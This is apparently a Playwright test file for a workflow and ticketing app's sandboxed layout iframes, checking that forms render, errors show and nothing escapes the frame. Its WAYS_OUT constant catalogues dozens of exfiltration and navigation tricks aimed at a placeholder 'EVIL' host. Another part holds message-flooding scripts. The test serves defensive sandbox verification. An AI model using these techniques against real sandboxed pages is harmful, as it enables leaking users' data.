"""Layouts in the browser: what they draw and answer, and that nothing gets out of their frame."""

from __future__ import annotations

import socket
import threading
from typing import Final

from playwright.sync_api import FrameLocator, Page, expect

from project.tests.axe import problems
from project.tests.browser import BrowserTestCase
from tenants.models import User
from tenants.roles import SystemRole
from tickets.models import Ticket
from tickets.submitting.submit_ticket import submit_ticket
from tickets.tests.screens import make_type
from workflows.authoring.editing.create_workflow import edit_workflow
from workflows.engine.process import JsonObject
from workflows.models import (
    TaskDefinition,
    TaskInstance,
    TaskStatus,
    TicketDefinition,
    WorkflowDefinition,
)
from workflows.running.definition_cache import forget_definitions

# Since then Chromium knows the header Connection-Allowlist; before, a frame that leads itself
# elsewhere has a connection made, over which nothing is sent.
KNOWS_ALLOWLISTS: Final = 148
FIELDS: list[JsonObject] = [
    {"name": "what", "label": "What do you need?", "type": "text", "required": True},
    {"name": "amount", "label": "Amount", "type": "number", "required": True},
    {
        "name": "why",
        "label": "Why so much?",
        "type": "text",
        "visible_when": {">": [{"var": "amount"}, 1000]},
    },
    {"name": "urgent", "label": "Urgent", "type": "boolean"},
    {
        "name": "tags",
        "label": "Tags",
        "type": "choices",
        "choices": [{"value": "a", "label": "Alpha"}, {"value": "b", "label": "Beta"}],
    },
    {
        "name": "rows",
        "label": "Rows",
        "type": "records",
        "fields": [{"name": "item", "label": "Item", "type": "text"}],
    },
    {"name": "doc", "label": "Document", "type": "file"},
]
FORM: Final = """
import { useState } from "react";

type Props = { value: Record<string, any>, onChange: (patch: object) => void, errors: any };

export default function Form({ value, onChange, errors, visible, fields, dark, language }: any) {
  const [opened, setOpened] = useState(false);
  return (
    <div>
      <h3>Drawn by us{dark ? " in the dark" : ""}, {language}</h3>
      <label>What
        <input value={value.what} onChange={(e) => onChange({ what: e.target.value })} />
      </label>
      <button type="button" onClick={() => onChange({ amount: 1250.5, urgent: true, tags: ["b"] })}>
        The usual
      </button>
      <button type="button" onClick={() => onChange({ rows: [...value.rows, { item: "x" }] })}>
        Another row
      </button>
      <p>{value.amount} / {String(value.urgent)} / {value.tags.join()} / {value.rows.length}</p>
      {visible.includes("why") && <p>Why?</p>}
      <p className="error">{Object.values(errors).flat().join(" ")}</p>
    </div>
  );
}
"""
SHOWN: Final = """
export default function Shown({ data, texts, fields, readOnly }) {
  return <p>{fields[0].label} {data.what}, {texts.amount}, {String(readOnly)}, {data.doc}</p>;
}
"""
# Each way out that a page has, but for leading the frame elsewhere. EVIL is whoever listens.
WAYS_OUT: Final = """
const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
const svg = "http://www.w3.org/2000/svg";
const page = "http://www.w3.org/1999/xhtml";
const ways = {
  fetch: () => fetch("EVIL/fetch?secret", { mode: "no-cors" }),
  beacon: () => navigator.sendBeacon("EVIL/beacon", "secret"),
  request: () => { const r = new XMLHttpRequest(); r.open("GET", "EVIL/request"); r.send(); },
  socket: () => new WebSocket("EVIL/socket".replace("http", "ws")),
  events: () => new EventSource("EVIL/events"),
  image: () => { new Image().src = "EVIL/image"; add("img", { srcset: "EVIL/set 1x" }); },
  media: () => {
    new Audio("EVIL/audio").play().catch(() => {});
    add("video", { poster: "EVIL/poster" });
  },
  drawing: () => {
    for (const name of ["image", "use", "feImage"]) {
      const made = document.createElementNS(svg, name);
      made.setAttribute("href", "EVIL/drawing#x");
      document.body.append(made);
    }
  },
  style: () => add("style", { textContent:
    '@import "EVIL/import"; @font-face { font-family: f; src: url("EVIL/face") }' +
    ' body { background: url("EVIL/background"); font-family: f }' }),
  font: () => new FontFace("g", "url(EVIL/font)").load(),
  form: () => {
    const form = Object.assign(document.createElement("form"), { action: "EVIL/form" });
    document.body.append(form); form.submit(); form.requestSubmit();
  },
  top: () => { top.location.href = "EVIL/top"; },
  parent: () => { parent.location = "EVIL/parent"; },
  popup: () => open("EVIL/popup"),
  anchors: () => {
    for (const target of ["_blank", "_top", "_parent"]) {
      const a = Object.assign(document.createElement("a"), { href: "EVIL/anchor", target });
      document.body.append(a); a.click();
    }
  },
  refresh: () => add("meta", { httpEquiv: "refresh", content: "0;url=EVIL/refresh" }),
  base: () => add("base", { href: "EVIL/base/" }),
  script: () => add("script", { src: "EVIL/script" }),
  copied: () => {
    const made = document.querySelector("script").cloneNode();
    made.src = "EVIL/copied"; document.body.append(made);
  },
  imported: () => import("EVIL/imported"),
  frame: () => add("iframe", { src: "EVIL/frame" }),
  object: () => add("object", { data: "EVIL/object" }),
  embed: () => add("embed", { src: "EVIL/embed" }),
  worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker')"]))),
  paint: () => CSS.paintWorklet.addModule("EVIL/paint"),
  links: () => {
    for (const rel of ["dns-prefetch", "preconnect", "prefetch", "preload", "stylesheet", "icon"]) {
      try { add("link", { rel, href: "EVIL/link", as: "image" }); } catch (error) { /* next */ }
      const made = document.createElementNS(page, "link");
      made.rel = rel; made.href = "EVIL/link"; document.body.append(made);
    }
  },
  linksOfText: () => { document.body.innerHTML += "<link rel=preconnect href='EVIL/text'>"; },
  linksOfDocument: () => {
    const other = document.implementation.createHTMLDocument("");
    other.write("<link rel=preconnect href='EVIL/document'>");
    document.body.append(other.querySelector("link"));
  },
  tampered: () => {
    Reflect.apply = () => document.body;
    add("link", { rel: "preconnect", href: "EVIL/tampered" });
  },
  calls: async () => {
    const call = new (globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection)(
      { iceServers: [{ urls: "stun:127.0.0.1:DATAGRAMS" }] });
    call.createDataChannel("secret");
    await call.setLocalDescription(await call.createOffer());
  },
  payment: () => new PaymentRequest([{ supportedMethods: "EVIL/pay" }], { total: {
    label: "x", amount: { currency: "EUR", value: "1" } } }).show(),
};
const tried = [];
for (const [name, way] of Object.entries(ways)) {
  tried.push(Promise.resolve().then(way).catch(() => {}));
}
globalThis.endOfWays = Promise.race([
  Promise.all(tried), new Promise((done) => setTimeout(done, 1_000)),
]);
"""
TRYING: Final = """
import { useEffect, useState } from "react";
export default function Trying() {
  const [said, say] = useState("Trying");
  useEffect(() => {
    const end = (text) => say(text);
    WAYS
    globalThis.endOfWays.then(() => end("Tried it all"));
  }, []);
  return <p>{said}</p>;
}
"""
LEAVING: Final = """
import { useEffect } from "react";
export default function Leaving() {
  useEffect(() => { setTimeout(() => { HOW }, 300); }, []);
  return <p>Leaving</p>;
}
"""

# What keeps a page busy: much in few bytes, and many messages.
LARGE: Final = """
let a = ["x"];
for (let i = 0; i < 24; i += 1) a = [a, a];
parent.postMessage({ type: "change", number: 1, sent: 1, patch: { what: a } }, "*");
"""
MANY: Final = """
const text = JSON.stringify({ type: "change", number: 1, sent: 1, patch: { what: "x" } });
for (let i = 0; i < 1_000; i += 1) parent.postMessage(text, "*");
"""
REPEATING: Final = """
export default function Repeating({ value, onChange }) {
  const times = (changes) => { for (let i = 1; i <= 50; i += 1) onChange(changes(i)); };
  return <div>
    <button type="button" onClick={() => times((i) => ({ what: `${i}` }))}>Count</button>
    <button type="button" onClick={() => times(() => ({ what: "50", other: 1 }))}>Again</button>
    <button type="button" onClick={() => times(() => ({ what: "last" }))}>Last</button>
    <p>{value.what}</p>
  </div>;
}
"""


class Listener:
    """Listens on this machine as somebody would who waits for what a layout sends."""

    def __init__(self) -> None:
        self.connections: list[bytes] = []
        self.datagrams: list[bytes] = []
        self._stream = socket.create_server(("127.0.0.1", 0))
        self._datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._datagram.bind(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self._stream.getsockname()[1]}"
        self.port = self._datagram.getsockname()[1]
        self.heard = threading.Event()
        for work in (self._accept, self._receive):
            threading.Thread(target=work, daemon=True).start()

    def close(self) -> None:
        self._stream.close()
        self._datagram.close()

    def _accept(self) -> None:
        while True:
            try:
                connection, _sender = self._stream.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.connections.append(connection.recv(400).partition(b"\r\n")[0])
                except OSError:
                    self.connections.append(b"")
            if self.connections[-1]:
                self.heard.set()

    def _receive(self) -> None:
        while True:
            try:
                self.datagrams.append(self._datagram.recv(100))
            except OSError:
                return


class LayoutTests(BrowserTestCase):
    """Buttons are pressed by keyboard: right after a page has scrolled, a click by a script may
    land in the frame where that stood before."""

    def setUp(self) -> None:
        super().setUp()
        User.objects.filter(pk=self.walt.pk).update(is_available=False)
        self.definition = make_type(fields=FIELDS)

    def set_layouts(self, *, edit: str = "", display: str = "", task: str = "") -> None:
        TicketDefinition.objects.filter(pk=self.definition.pk).update(
            edit_layout=edit, display_layout=display
        )
        tasks = TaskDefinition.objects.filter(workflow=self.definition.workflow, key="check")
        tasks.update(edit_layout=task, display_layout=display)
        forget_definitions()

    def open_form(self, user: User) -> Page:
        page = self.open_window(user)
        page.goto(f"/app/tickets/myticket/add/?definition={self.definition.pk}")
        return page

    def layout(self, page: Page) -> FrameLocator:
        return page.frame_locator("iframe.tf-layout-frame")

    def test_a_form_is_filled_in_and_answers_are_shown(self) -> None:
        self.set_layouts(edit=FORM, display=SHOWN)
        page = self.open_form(self.uma)
        drawn = self.layout(page)
        expect(drawn.get_by_role("heading")).to_have_text("Drawn by us, en")
        expect(page.locator("[data-field=what]")).to_be_hidden()
        expect(page.locator("[data-field=doc]")).to_be_visible()
        self.assertEqual(problems(page), [])
        drawn.get_by_role("button", name="The usual").press("Enter")
        drawn.get_by_role("button", name="Another row").press("Enter")
        expect(drawn.get_by_text("1250.5 / true / b / 1")).to_be_visible()
        expect(drawn.get_by_text("Why?")).to_be_visible()
        with page.expect_navigation():
            page.get_by_role("button", name="Submit").press("Enter")

        # The server has said what is missing: in the layout, and above it.
        expect(page.locator("[data-layout-errors]")).to_contain_text("What do you need?")
        expect(drawn.locator(".error")).not_to_be_empty()
        expect(drawn.get_by_text("1250.5 / true / b / 1")).to_be_visible()
        drawn.get_by_label("What").press_sequentially("A desk")
        with page.expect_navigation():
            page.get_by_role("button", name="Submit").press("Enter")
        shown = self.layout(page)
        expect(shown.locator("p")).to_have_text("What do you need? A desk, 1250.5, true,")
        self.assertEqual(problems(page), [])
        self.check(page)
        data = Ticket.objects.get().data
        expected = {"what": "A desk", "amount": 1250.5, "urgent": True, "tags": ["b"]}
        self.assertEqual(data, {**expected, "rows": [{"item": "x"}]})

        # By keyboard to what is shown without it, for the rest of the visit.
        switch = page.get_by_role("button", name="Show it without the layout")
        switch.focus()
        page.keyboard.press("Enter")
        expect(page.locator("dl.tk-answers dd").first).to_have_text("A desk")
        page.reload()
        expect(page.get_by_role("button", name="Show the layout")).to_be_visible()
        expect(page.locator("dl.tk-answers dd").first).to_have_text("A desk")
        self.check(page)

    def test_a_broken_layout_tells_its_author_and_nobody_else(self) -> None:
        source = "export default function Broken() {\n  return <p>{nothing.here}</p>;\n}"
        self.set_layouts(edit=source)
        page = self.open_form(self.uma)
        expect(page.get_by_role("button", name="Show the layout")).to_be_visible()
        expect(page.get_by_label("What do you need?")).to_be_visible()
        expect(page.locator("[data-layout-says]")).to_be_hidden()
        self.give_role(self.carla, SystemRole.USER)
        page = self.open_form(self.carla)
        expect(page.locator("[data-layout-says]")).to_contain_text("Line 2: nothing is not defined")
        expect(page.get_by_label("What do you need?")).to_be_visible()

        self.set_layouts(edit="export default () => {\n  return <p>;\n}")
        page.reload()
        expect(page.locator("[data-layout-says]")).to_contain_text("Line ")
        self.set_layouts(edit="export default () => { for (;;) {} }")
        page.reload()
        expect(page.locator("[data-layout-says]")).to_contain_text("does not answer")
        expect(page.get_by_label("What do you need?")).to_be_visible()

    def test_nothing_gets_out(self) -> None:
        listener = Listener()
        self.addCleanup(listener.close)
        ways = WAYS_OUT.replace("EVIL", listener.address).replace("DATAGRAMS", str(listener.port))
        self.set_layouts(edit=TRYING.replace("WAYS", ways))
        page = self.open_form(self.uma)
        expect(self.layout(page).get_by_text("Tried it all")).to_be_visible()
        self.assertEqual((listener.connections, listener.datagrams), ([], []))
        self.assertEqual(len(page.context.pages), 1)

        for how in (
            "for (const way of 'abc') location.assign('EVIL/' + way)",
            "Object.assign(document.createElement('a'), { href: 'EVIL/self' }).click()",
            "open('EVIL/self', '_self')",
            "Object.assign(document.createElement('a'), { href: 'EVIL/x', download: 'x' }).click()",
            "location = 'data:text/html,<img src=EVIL/data>'",
        ):
            self.set_layouts(edit=LEAVING.replace("HOW", how.replace("EVIL", listener.address)))
            page.reload()
            expect(page.locator("[data-layout-says]")).to_contain_text(
                "Nothing is lost", timeout=30_000
            )
            expect(page.get_by_label("What do you need?")).to_be_visible()
            page.evaluate("sessionStorage.clear()")
            self.assertEqual(len(page.context.pages), 1)
        version = int(self.browser.version.partition(".")[0])
        sent = [each for each in listener.connections if each or version >= KNOWS_ALLOWLISTS]
        self.assertEqual((sent, listener.datagrams), ([], []))

        # It would have been heard.
        page.evaluate("address => { location.href = address; }", f"{listener.address}/heard")
        self.assertTrue(listener.heard.wait(60))
        self.assertIn(b"GET /heard HTTP/1.1", listener.connections)

    def test_one_that_says_too_much_is_lost_and_stays_so_after_a_reload(self) -> None:
        for way in (LARGE, MANY):
            self.set_layouts(edit=LEAVING.replace("HOW", way))
            page = self.open_form(self.uma)
            expect(page.locator("[data-layout-says]")).to_contain_text("Nothing is lost")
            expect(page.get_by_label("What do you need?")).to_be_visible()
        # A page that was held up has not come to the end of what it began.
        self.set_layouts(edit=FORM)
        page = self.open_form(self.uma)
        expect(self.layout(page).get_by_role("heading")).to_be_visible()
        page.evaluate("const end = Date.now() + 4_000; while (Date.now() < end);")
        page.reload()
        expect(page.locator("[data-layout-says]")).to_contain_text("Nothing is lost")

    def test_many_changes_are_few_for_the_server(self) -> None:
        self.set_layouts(edit=REPEATING)
        page = self.open_form(self.uma)
        drawn = self.layout(page)
        expect(drawn.get_by_role("button", name="Count")).to_be_visible()
        page.evaluate(
            """() => {
                globalThis.inputs = 0;
                document.addEventListener("input", () => { globalThis.inputs += 1; });
            }"""
        )
        what = page.locator("[name=answers-what]")
        drawn.get_by_role("button", name="Count").press("Enter")
        expect(what).to_have_value("50")
        inputs = page.evaluate("inputs")
        self.assertLess(inputs, 10)
        # What comes again changes nothing; what follows it shows that it has come.
        drawn.get_by_role("button", name="Again").press("Enter")
        drawn.get_by_role("button", name="Last").press("Enter")
        expect(what).to_have_value("last")
        self.assertEqual(page.evaluate("inputs"), inputs + 1)

    def test_a_task_is_completed_through_a_layout(self) -> None:
        source = """export default ({ data, value, onChange, errors }) => <div>
          <p>{data.what}, {JSON.stringify(value)}</p>
          <button onClick={() => onChange({ ok: true })}>Fine</button></div>"""
        self.set_layouts(task=source)
        ticket = submit_ticket(
            definition=self.definition, data={"what": "A desk", "amount": 1}, user=self.uma
        )
        task = TaskInstance.objects.get(workflow_instance=ticket.workflow_instance)
        page = self.open_window(self.wendy)
        page.goto(f"/app/tickets/mytask/{task.pk}/change/")
        drawn = self.layout(page)
        expect(drawn.locator("p")).to_have_text('A desk, {"ok":null,"reason":""}')
        drawn.get_by_role("button", name="Fine").press("Enter")
        expect(drawn.locator("p")).to_have_text('A desk, {"ok":true,"reason":""}')
        with page.expect_navigation():
            page.get_by_role("button", name="Complete").press("Enter")
        self.check(page)
        task.refresh_from_db()
        self.assertEqual(task.output_data, {"ok": True})

    def test_a_frame_begins_when_it_comes_into_view(self) -> None:
        self.set_layouts(display="export default ({ data }) => <p>Drawn {data.reason}</p>;")
        data: JsonObject = {"what": "A desk", "amount": 1}
        ticket = submit_ticket(definition=self.definition, data=data, user=self.uma)
        task = TaskInstance.objects.get(workflow_instance=ticket.workflow_instance)
        for number in range(8):
            task = TaskInstance.objects.create(
                workflow_instance=task.workflow_instance,
                definition=task.definition,
                status=TaskStatus.COMPLETED,
                assigned_to=self.wendy,
                output_data={"ok": False, "reason": "\n".join([f"{number}"] * 20)},
            )
        page = self.open_window(self.wendy)
        page.goto(f"/app/tickets/mytask/{task.pk}/change/")
        frames, places = page.locator("iframe.tf-layout-frame"), page.locator("[data-layout-shown]")
        expect(frames.first).to_be_visible()
        expect(places).to_have_count(9)
        self.assertLess(frames.count(), 9)
        expect(places.last.locator("iframe")).to_have_count(0)
        # Earlier rounds are folded, the newest first.
        page.locator("details", has=places.last).locator("summary").first.press("Enter")
        places.last.scroll_into_view_if_needed()
        last = places.last.frame_locator("iframe")
        expect(last.locator("p")).to_contain_text("Drawn 0")
        self.check(page)

    def test_the_editor_shows_what_is_typed_with_the_data_of_a_test_case(self) -> None:
        workflow = edit_workflow(workflow=self.definition.workflow, user=self.carla)
        tests: list[JsonObject] = [
            {"name": name, "ticket_type": "purchase", "ticket": {"what": what, "amount": 1}}
            for name, what in (("First", "A desk"), ("Second", "A chair"))
        ]
        expected: list[JsonObject] = [{**each, "expect": {"path": []}} for each in tests]
        WorkflowDefinition.objects.filter(pk=workflow.pk).update(test_cases=expected)
        page = self.open_window(self.carla)
        page.goto(f"/app/workflows/workflowdefinition/{workflow.pk}/edit/")
        card = page.locator("#ed-panel .ed-card").first
        card.get_by_text("More settings").click()
        source = card.get_by_label("Source of a component that shows the data")
        card.get_by_text("Preview").click()
        source.fill("export default ({ data }) => <b>Seen: {data.what}</b>;")
        drawn = page.frame_locator(".ed-layout-place iframe")
        expect(drawn.locator("b")).to_have_text("Seen: A desk")
        # Of what is typed while something else is drawn, nothing is forgotten.
        source.evaluate(
            """(area) => addEventListener("message", function type({ data }) {
                if (!String(data).includes('"drawn"')) return;
                removeEventListener("message", type, true);
                area.value = "export default ({ data }) => <b>Typed meanwhile: {data.what}</b>;";
                area.dispatchEvent(new Event("input", { bubbles: true }));
            }, true)"""
        )
        card.get_by_label("Test case whose data is shown").select_option("Second")
        expect(drawn.locator("b")).to_have_text("Typed meanwhile: A chair")
        self.assertEqual(self.errors, [])
        # What one version has changed in its realm is not there for the next.
        source.fill("globalThis.left = 'left'; export default () => <b>{globalThis.left}</b>;")
        expect(drawn.locator("b")).to_have_text("left")
        source.fill("export default () => <b>{String(globalThis.left)}</b>;")
        expect(drawn.locator("b")).to_have_text("undefined")
        source.fill("export default ({ data }) => (\n  <b>{data.what.more.less}</b>\n);")
        expect(card.locator(".ed-layout-says")).to_contain_text("Line 2: Cannot read")
        source.fill("export default () => <i>Mended</i>;")
        expect(drawn.locator("i")).to_have_text("Mended")
        expect(card.locator(".ed-layout-says")).to_be_hidden()
